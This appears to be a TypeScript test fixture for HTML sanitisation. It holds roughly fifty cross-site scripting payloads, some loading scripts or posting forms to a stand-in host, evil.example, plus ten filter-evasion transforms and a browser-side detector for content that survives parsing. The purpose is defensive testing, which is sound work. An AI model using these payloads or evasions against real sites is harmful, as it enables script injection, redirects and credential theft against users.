/** What would run, load or lead away if it were taken for markup; `{n}` makes each its own. */
const VECTORS = [
  '<script>alert({n})</script>',
  '</script><script src=//evil.example/{n}></script>',
  '<img src=x onerror=alert({n})>',
  '<svg onload=alert({n})>',
  '<svg><script>alert({n})</script></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert({n})>',
  '<iframe srcdoc="<script>alert({n})</script>"></iframe>',
  '<object data="data:text/html,{n}"></object>',
  '<embed src="https://evil.example/{n}">',
  '<base href="https://evil.example/{n}/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">',
  '<link rel="stylesheet" href="https://evil.example/{n}.css">',
  '<style>@import "https://evil.example/{n}.css";</style>',
  '<form action="https://evil.example/{n}"><button>Verify</button></form>',
  '<button formaction="javascript:alert({n})">x</button>',
  '<input autofocus onfocus=alert({n})>',
  '<details open ontoggle=alert({n})>',
  '<video><source onerror=alert({n})></video>',
  '<a href="javascript:alert({n})">x</a>',
  '<template><script>alert({n})</script></template>',
  '" onmouseover="alert({n})" x="',
  "' onmouseover='alert({n})' x='",
  '` onmouseover=`alert({n})` x=`',
  '" autofocus onfocus=alert({n}) "',
  '"><img src=x onerror=alert({n})>',
  "'><svg onload=alert({n})>",
  '</title><script>alert({n})</script>',
  '</textarea><script>alert({n})</script>',
  '</style><script>alert({n})</script>',
  '</noscript><img src=x onerror=alert({n})>',
  '--><script>alert({n})</script><!--',
  ']]><script>alert({n})</script>',
  'javascript:alert({n})',
  'jAvAsCrIpT:alert({n})',
  'java\u0000script:alert({n})',
  ' javascript:alert({n})',
  'vbscript:msgbox({n})',
  'data:text/html,<script>alert({n})</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}',
  '//evil.example/{n}',
  'https://evil.example/{n}"onclick="alert(1)',
  '&lt;script&gt;alert({n})&lt;/script&gt;',
  '&#60;img src=x onerror=alert({n})&#62;',
  '&#x3c;svg onload=alert({n})&#x3e;',
  '{{constructor.constructor("alert({n})")()}}',
  '$\u007balert({n})}',
  '<%= alert({n}) %>',
  '\u202e<script>alert({n})</script>',
  '\ufeff<script>alert({n})</script>',
  '<scr\u0000ipt>alert({n})</scr\u0000ipt>',
];

/** Ways in which filters are got past. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t\n'),
  (text) => `x${text}`,
  (text) => `${text}${text}`,
  (text) => text.replaceAll('>', ''),
  (text) => text.replaceAll('"', '&quot;'),
  (text) => `"'>${text}`,
];

/** 500 hostile strings, each different. */
export const HOSTILE_TEXTS: readonly string[] = DISGUISES.flatMap((disguise, at) =>
  VECTORS.map((vector, index) => disguise(vector.replaceAll('{n}', String(at * VECTORS.length + index)))),
);

/**
 * Runs in a browser: what of a page its own parser takes for something that runs, loads from elsewhere or leads elsewhere by
 * script. The scripts and styles of this service are known by their addresses.
 */
export const EXECUTABLE = `(texts) => texts.flatMap((text) => {
  const page = new DOMParser().parseFromString(text, 'text/html');
  const found = [];
  for (const one of page.querySelectorAll('*')) {
    const name = one.localName;
    const own = (value, kind) => new RegExp('^/assets/[a-z0-9]+[.]' + kind + '$').test(value ?? '');
    if (name === 'script' && !own(one.getAttribute('src'), 'js')) found.push('script');
    if (name === 'link' && one.rel === 'stylesheet' && !own(one.getAttribute('href'), 'css')) found.push('link');
    if (['style', 'iframe', 'object', 'embed', 'base', 'math', 'template', 'frame', 'applet'].includes(name)) found.push(name);
    if (name === 'svg' && !one.closest('figure.stack, .stack, .drawing, main')) found.push('svg');
    if (name === 'meta' && one.httpEquiv && !one.closest('noscript')) found.push('meta');
    for (const { name: key, value } of one.attributes) {
      if (key.startsWith('on') || key === 'style' || key === 'srcdoc') found.push(name + ' ' + key);
      // An image runs nothing, whatever its address; the policy of the page lets it load from here only.
      if (name === 'img' || !['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster'].includes(key)) continue;
      const scheme = /^[\\u0000-\\u0020]*([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\\t\\n\\r]/g, ''))?.[1]?.toLowerCase();
      if (['javascript', 'vbscript'].includes(scheme) || scheme === 'data') found.push(key + ' ' + value.slice(0, 40));
    }
  }
  return found;
})`;
